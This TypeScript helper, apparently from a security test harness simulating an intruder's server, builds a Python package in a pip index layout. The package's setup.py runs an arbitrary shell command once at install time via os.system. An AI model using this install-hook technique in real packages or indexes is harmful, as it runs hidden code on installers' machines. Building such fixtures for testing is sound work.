// A Python package on the intruder's web server, in an index as pip asks for it, whose setup.py runs a line.
import { execFileSync } from 'node:child_process'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Stage } from './stage.ts'

export function python(stage: Stage, name: string, version: string, line: string): void {
  const source = join(stage.folder, `${name}-${version}`)
  const index = join(stage.folder, 'shop/simple', name)
  for (const folder of [source, index]) mkdirSync(folder, { recursive: true })
  writeFileSync(join(source, 'PKG-INFO'), `Metadata-Version: 1.0\nName: ${name}\nVersion: ${version}\n`)
  writeFileSync(
    join(source, 'setup.py'),
    `import os\nfrom setuptools import setup\nif not os.path.exists('/tmp/.${name}'):\n    open('/tmp/.${name}', 'w').close()\n    os.system(${JSON.stringify(line)})\nsetup(name='${name}', version='${version}', py_modules=[])\n`,
  )
  execFileSync('tar', ['-czf', join(index, `${name}-${version}.tar.gz`), '-C', stage.folder, `${name}-${version}`])
}
